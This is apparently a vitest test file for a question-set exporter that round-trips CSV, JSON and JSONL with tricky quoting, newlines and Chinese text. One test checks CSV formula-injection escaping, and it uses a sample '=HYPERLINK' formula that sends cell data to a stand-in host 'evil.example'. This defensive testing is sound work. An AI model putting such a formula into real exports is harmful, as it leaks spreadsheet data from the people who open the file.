import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { exportQuestions } from "./export.js";
import { parseQuestionFile } from "./import.js";
import type { QuestionInput } from "./schema.js";

const tricky: QuestionInput[] = [
  {
    question_type: "FACTUAL",
    question_text: 'When was the quay built, and what is "Old Quay"?',
    ground_truth: 'In 1786.\nIt is a promenade, 140 m long; see "history", line 2.\r\nEnd',
    reference_context: "Two years later, in 1786, they paid for the first stone quay, a wall…",
  },
  {
    question_type: "INFERENTIAL",
    question_text: "新防洪堤比原来的防潮墙高多少？为什么要修建它？",
    ground_truth: "高出1.5米，因为2016年的洪水，“白鹭”台风。",
  },
  { question_type: "USER_DEFINED", question_text: "=SUM(A1:A2), 'quoted'", ground_truth: "" },
  {
    question_type: "FACTUAL",
    question_text: "Leading and trailing context spaces?",
    ground_truth: "yes",
    reference_context: "  kept as written  ",
  },
  {
    question_type: "FACTUAL",
    question_text: "When did Line 1 open?",
    ground_truth: "18 September 2009",
    ground_truths: ["18 September 2009", "September 18, 2009", '2009年9月18日, "quoted"'],
  },
  {
    question_type: "FACTUAL",
    question_text: "How much is the ferry?",
    ground_truth: "6 yuan",
    relevant_ids: ["faq-ferry-fare", 'docs/ferry, "old".md', "=cmd"],
    reference_contexts: ["A single crossing costs 6 yuan,\nfor adults."],
  },
];

describe("exportQuestions", () => {
  it("writes CSV with seed 003's columns, CRLF rows and RFC 4180 quoting", () => {
    const csv = exportQuestions(tricky.slice(0, 1), "csv");
    expect(csv.split("\r\n")[0]).toBe(
      "question_type,question_text,ground_truth,reference_context,ground_truths,relevant_ids,reference_contexts",
    );
    expect(csv).toContain('"When was the quay built, and what is ""Old Quay""?"');
    expect(csv.endsWith("\r\n")).toBe(true);
  });

  it.each(["csv", "json", "jsonl"] as const)(
    "round-trips commas, quotes, newlines and Chinese through parseQuestionFile (%s)",
    (format) => {
      expect(parseQuestionFile(exportQuestions(tricky, format), format)).toEqual(tricky);
    },
  );

  it("round-trips as UTF-8 bytes too", () => {
    const bytes = new TextEncoder().encode(exportQuestions(tricky, "csv"));
    expect(parseQuestionFile(bytes, "csv")).toEqual(tricky);
  });

  it("leaves out fields beyond the question's own and fills defaults", () => {
    const generated = [
      {
        question_text: "Q?",
        reference_context: "   ",
        source_chunk_id: "c1",
        document_id: "d1",
      },
    ];
    expect(JSON.parse(exportQuestions(generated, "json"))).toEqual([
      { question_type: "USER_DEFINED", question_text: "Q?", ground_truth: "" },
    ]);
    expect(exportQuestions(generated, "jsonl")).toBe(
      '{"question_type":"USER_DEFINED","question_text":"Q?","ground_truth":""}\n',
    );
  });

  it("writes CSV cells a spreadsheet would run as formulas with a leading apostrophe, and reads them back", () => {
    const formulas: QuestionInput[] = [
      {
        question_type: "FACTUAL",
        question_text: '=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
        ground_truth: "+1 metre",
        reference_context: "-2 degrees, @noon",
      },
      { question_type: "USER_DEFINED", question_text: "@SUM(A1:A9)?", ground_truth: "-0.5" },
      { question_type: "USER_DEFINED", question_text: "'=already marked?", ground_truth: "'tis" },
    ];
    const csv = exportQuestions(formulas, "csv");
    const cells = parse(csv, { from_line: 2 }) as string[][];
    expect(cells.map((row) => row.slice(1, 4))).toEqual([
      [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
        "'+1 metre",
        "'-2 degrees, @noon",
      ],
      ["'@SUM(A1:A9)?", "'-0.5", ""],
      ["''=already marked?", "'tis", ""],
    ]);
    expect(parseQuestionFile(csv, "csv")).toEqual(formulas);
    // JSON and JSONL are not opened by spreadsheets: their text stays as it is.
    expect(exportQuestions(formulas, "jsonl")).toContain('"question_text":"=HYPERLINK(');
  });

  it("writes a header even for an empty set", () => {
    expect(exportQuestions([], "csv")).toBe(
      "question_type,question_text,ground_truth,reference_context,ground_truths,relevant_ids,reference_contexts\r\n",
    );
    expect(exportQuestions([], "json")).toBe("[]\n");
    expect(exportQuestions([], "jsonl")).toBe("");
  });
});
